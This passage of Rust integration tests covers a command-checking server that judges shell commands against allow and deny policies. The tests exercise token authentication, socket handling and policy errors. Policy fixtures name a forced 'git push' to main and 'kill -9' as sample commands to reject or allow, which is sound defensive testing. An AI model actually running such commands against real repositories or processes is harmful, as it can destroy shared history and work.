    assert!(TcpStream::connect_timeout(&addr, Duration::from_secs(1)).is_err());
    assert!(
        s.child.try_wait().unwrap().is_none(),
        "exited with a request in flight"
    );
    // The request in flight completes.
    busy.write_all(&body[5..]).unwrap();
    busy.set_read_timeout(Some(T)).unwrap();
    let mut resp = String::new();
    busy.read_to_string(&mut resp).unwrap();
    assert_eq!(status_of(&resp), Some(200), "{resp}");
    assert!(resp.contains("\"decision\":\"REJECT\""), "{resp}");
    // Then it stops, status 0; the idle connection was closed.
    let st = s
        .wait_exit(T)
        .expect("tcp serve did not stop after draining");
    assert!(st.success(), "{st:?}: {}", s.log());
    assert!(idle.get("/healthz").is_err());
    assert!(s.log().contains("stopped"));
}

#[test]
fn a_bearer_token_guards_tcp_and_is_never_logged() {
    let secret = "s3cr3t-token-value-4711";
    let s = Server::start(&["--listen", "127.0.0.1:0"], &[("TCP_SERVE_TOKEN", secret)]);
    let body = br#"{"command": "ls"}"#;
    let mut c = s.client(&s.tcp());
    let r = c.post_json("/v1/check", body).unwrap();
    assert_eq!(r.status, 401);
    assert!(r.header("www-authenticate").is_some());
    assert!(error_of(&r).contains("Bearer"));
    let mut c = s.client(&s.tcp()).with_token(Some("wrong".into()));
    assert_eq!(c.post_json("/v1/check", body).unwrap().status, 401);
    let mut c = s.client(&s.tcp()).with_token(Some(secret.into()));
    assert_eq!(c.post_json("/v1/check", body).unwrap().status, 200);
    assert_eq!(c.get("/metrics").unwrap().status, 200);
    // /healthz needs none; the socket is guarded by its mode instead.
    assert_eq!(s.client(&s.tcp()).get("/healthz").unwrap().status, 200);
    assert_eq!(
        s.client(&s.unix())
            .post_json("/v1/check", body)
            .unwrap()
            .status,
        200
    );
    assert!(!s.log().contains(secret));
    // Not loopback: a warning.
    let s2 = Server::start(&["--listen", "0.0.0.0:0", "--no-socket"], &[]);
    assert!(s2.wait_log("not a loopback address", 1, T), "{}", s2.log());
    assert!(s2.log().contains("TCP_SERVE_TOKEN"), "{}", s2.log());
}

#[test]
fn a_socket_in_use_is_not_taken_over_and_a_stale_one_is_replaced() {
    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("g.sock");
    let s = Server::start(&["--socket", sock.to_str().unwrap()], &[]);
    let o = tcp(&["serve", "--socket", sock.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&o.stderr).contains("is in use"));
    drop(s); // SIGKILL: the socket file stays behind, stale.
    assert!(sock.exists());
    let s = Server::start(&["--socket", sock.to_str().unwrap()], &[]);
    assert_eq!(s.client(&s.unix()).get("/healthz").unwrap().status, 200);
    drop(s);
    // Not a socket: refused.
    let file = dir.path().join("plain");
    std::fs::write(&file, "x").unwrap();
    let o = tcp(&["serve", "--socket", file.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&o.stderr).contains("not a socket"));
    // Nothing to serve on: usage.
    let o = tcp(&["serve", "--no-socket"]);
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn a_malformed_policy_is_exit_status_1_naming_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("site.toml");
    std::fs::write(
        &p,
        "version = 1\n\n[[rule]]\naction = \"deny\"\nregex = \"(unclosed\"\n",
    )
    .unwrap();
    let ps = p.to_str().unwrap();
    let want = format!("{ps}:5: the regex does not compile");
    let o = tcp(&["check", "--policy", ps, "ls"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains(&want),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let sock = dir.path().join("g.sock");
    let o = tcp(&["serve", "--policy", ps, "--socket", sock.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stderr).contains(&want));
    assert!(o.stdout.is_empty(), "nothing listened");
    // TOML syntax errors name the line too.
    std::fs::write(&p, "[masks]\ndeny = [\n").unwrap();
    let o = tcp(&["check", "--policy", ps, "ls"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains(&format!("{ps}:")),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    // A missing policy file is an I/O failure.
    let o = tcp(&["check", "--policy", "/nonexistent/p.toml", "ls"]);
    assert_eq!(o.status.code(), Some(3));
}

#[test]
fn tcp_check_applies_the_policy() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("p.toml");
    std::fs::write(
        &p,
        "[[rule]]\naction = \"deny\"\nglob = \"git push --force*\"\nwhy = \"history is shared\"\n\n[[rule]]\naction = \"allow\"\nglob = \"kill -9 *\"\n",
    )
    .unwrap();
    let ps = p.to_str().unwrap();
    let o = tcp(&[
        "check",
        "--json",
        "--policy",
        ps,
        "git push --force origin main",
    ]);
    assert_eq!(o.status.code(), Some(1));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["decision"], "REJECT");
    assert_eq!(v["decision_reason"], "POLICY_DENY");
    assert!(v["reasons"].to_string().contains(&format!("{ps}:1")), "{v}");
    assert!(v["reasons"].to_string().contains("history is shared"));
    let o = tcp(&["check", "--json", "--policy", ps, "kill -9 4242"]);
    assert_eq!(o.status.code(), Some(0));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["decision_reason"], "POLICY_ALLOW");
    // Command-line masks are OR-ed in.
    let o = tcp(&[
        "check",
        "--json",
        "--policy",
        ps,
        "--deny-mask",
        "PROCESS",
        "kill -9 4242",
    ]);
    assert_eq!(
        o.status.code(),
        Some(2),
        "masks are numbers on the command line"
    );
    let o = tcp(&[
        "check",
        "--json",
        "--policy",
        ps,
        "--deny-mask",
        "0x2000",
        "kill -9 4242",
    ]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["decision_reason"], "DENIED");
}
